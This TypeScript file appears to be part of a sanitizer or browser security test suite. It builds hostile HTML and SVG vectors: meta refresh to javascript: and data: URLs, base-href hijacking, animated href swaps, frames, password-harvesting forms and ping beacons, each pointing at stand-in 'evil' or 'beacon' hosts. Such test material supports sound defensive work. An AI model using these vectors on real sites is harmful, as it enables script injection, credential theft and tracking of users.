import type { Attack } from '../attackTape.ts'
import type { Lures } from '../lures.ts'
import { element, type Piece, svg } from '../../page.ts'

/** Attacks that try to lead somewhere else. */

export function refresh({ evil, beacon, script }: Lures): Attack {
  const metas = [
    { 'http-equiv': 'refresh', content: `1;javascript:${script('refresh')}` },
    { 'http-equiv': 'refresh', content: `0;url=data:text/html,<script>${script('data')}</script>` },
    { 'http-equiv': 'set-cookie', content: 'hostile=1; path=/' },
    { 'http-equiv': 'content-security-policy', content: `default-src * 'unsafe-inline'; report-uri ${evil('report')}` },
    { 'http-equiv': 'x-dns-prefetch-control', content: 'on' },
    { 'http-equiv': 'accept-ch', content: 'dpr, width' },
    { name: 'referrer', content: 'unsafe-url' },
    { name: 'viewport', content: 'width=10' },
    { 'HTTP-EQUIV': 'ReFresh', content: `0; URL='${beacon('case')}'` },
    { 'http-equiv': 'refresh', content: `0;url=${evil('refresh')}` },
  ].map((attributes) => element('meta', attributes))
  return { head: metas, body: metas }
}

export function base({ evil, both }: Lures): Attack {
  const bases = [...both('base'), 'javascript:/', 'data:text/html,'].map((href) => element('base', { href, target: '_top' }))
  const relative: Piece[] = [
    element('img', { src: 'picture.png' }),
    element('img', { src: '/root.png', srcset: 'small.png 1x, large.png 2x' }),
    element('link', { rel: 'stylesheet', href: 'sheet.css' }),
    element('a', { href: 'next' }, 'Next'),
    element('form', { action: 'send' }, element('input', { autofocus: '' })),
    element('iframe', { src: 'frame.html' }),
    element('div', { style: 'background: url(back.png)' }, 'Relative'),
    element('a', { href: evil('away') }, 'Away'),
  ]
  return { head: bases, body: [...bases, ...relative] }
}

function animated(...inside: Piece[]): Piece {
  return svg('svg', { width: 200, height: 40 }, svg('a', {}, ...inside, svg('text', { x: 10, y: 20 }, 'Tea')))
}

export function animation({ both, evil, script }: Lures): Attack {
  const address = `javascript:${script('animated')}`
  const use = `data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${evil('use')}' onerror='1'/></svg>#x`
  const begin = { attributeName: 'x', to: '1', dur: '1ms' }
  return {
    body: [
      animated(svg('set', { attributeName: 'href', to: address })),
      animated(svg('set', { attributeName: 'xlink:href', to: address, begin: '0s' })),
      animated(svg('animate', { attributeName: 'href', values: `${address};${address}`, dur: '1s', repeatCount: 'indefinite' })),
      animated(svg('animate', { attributename: 'HREF', from: address, to: address, fill: 'freeze' })),
      animated(svg('set', { attributeName: 'onclick', to: script('set-handler') })),
      animated(svg('animateMotion', { ...begin, onbegin: script('motion') }), svg('animate', { ...begin, onend: script('end') })),
      animated(svg('animateTransform', { ...begin, onrepeat: script('repeat'), repeatCount: '9' })),
      svg('svg', {}, svg('use', { href: use }), svg('use', { 'xlink:href': `${evil('use-address')}#x` })),
      svg('svg', {}, ...both('image').flatMap((href) => [svg('image', { href }), svg('image', { 'xlink:href': href })])),
      svg('svg', {}, svg('filter', { id: 'f' }, svg('feImage', { href: evil('filter') })), svg('rect', { filter: 'url(#f)' })),
      svg(
        'svg',
        {},
        svg('rect', { fill: `url(${evil('fill')}#p)`, mask: `url(${evil('mask')}#m)`, cursor: `url(${evil('cursor')})` }),
      ),
      svg(
        'svg',
        {},
        svg('image', {}, svg('animate', { attributeName: 'href', to: evil('animated-image'), dur: '1ms', fill: 'freeze' })),
      ),
      svg('svg', {}, svg('foreignObject', {}, element('iframe', { src: address }), element('img', { src: evil('foreign') }))),
    ],
  }
}

export function frames({ both, evil, beacon }: Lures): Attack {
  return {
    body: [
      ...both('frame').map((src) => element('iframe', { src, name: 'tea', width: 200, height: 80 })),
      element('iframe', { src: evil('allowed'), sandbox: 'allow-scripts allow-top-navigation', allow: 'autoplay *' }),
      element('iframe', { src: 'about:blank', 'data-src': evil('data-src'), loading: 'eager' }),
      ...both('object').map((data) => element('object', { data, type: 'text/html' })),
      ...both('embed').map((src) => element('embed', { src, type: 'text/html' })),
      element('object', {}, element('param', { name: 'movie', value: evil('movie') })),
      element('portal', { src: evil('portal') }),
      element('fencedframe', { src: evil('fenced') }),
      element('webview', { src: beacon('webview') }),
      element('frameset', { cols: '50%,50%' }, element('frame', { src: evil('frameset') })),
    ],
  }
}

export function forms({ both, evil, script }: Lures): Attack {
  const all = { method: 'post', target: '_top', enctype: 'text/plain' }
  return {
    body: [
      ...both('form').map((action) =>
        element('form', { ...all, action, id: 'tea' }, element('input', { name: 'password', type: 'password', autofocus: '' })),
      ),
      element('form', { ...all, action: evil('dialog'), method: 'dialog' }, element('button', {}, 'Send')),
      element('button', { form: 'tea', formaction: evil('formaction'), formtarget: '_top', autofocus: '' }, 'Send'),
      element('input', { type: 'submit', form: 'tea', formaction: `javascript:${script('formaction')}`, value: 'Send' }),
      element('input', { type: 'image', form: 'tea', src: evil('submit-image'), formaction: evil('image-action') }),
      element('isindex', { action: evil('isindex'), prompt: 'Search' }),
      element('keygen', { form: 'tea', challenge: 'tea' }),
      element('textarea', { form: 'tea', autofocus: '', accesskey: 'x', oninput: script('input') }, 'Tea'),
      element(
        'dialog',
        { open: '' },
        element('form', { ...all, action: evil('in-dialog') }, element('input', { autofocus: '' })),
      ),
    ],
  }
}

export function ping({ both, evil, beacon }: Lures): Attack {
  return {
    body: [
      element('a', { href: evil('link'), ping: both('ping').join(' '), target: '_top' }, 'Read on'),
      element('a', { href: evil('source'), attributionsrc: evil('attribution'), rel: 'opener' }, 'Read on'),
      element('a', { href: beacon('file'), download: 'tea.exe' }, 'Read on'),
      element('img', { src: evil('image'), attributionsrc: evil('image-attribution'), browsingtopics: '' }),
      element('area', { href: evil('area'), ping: evil('area-ping') }),
    ],
  }
}
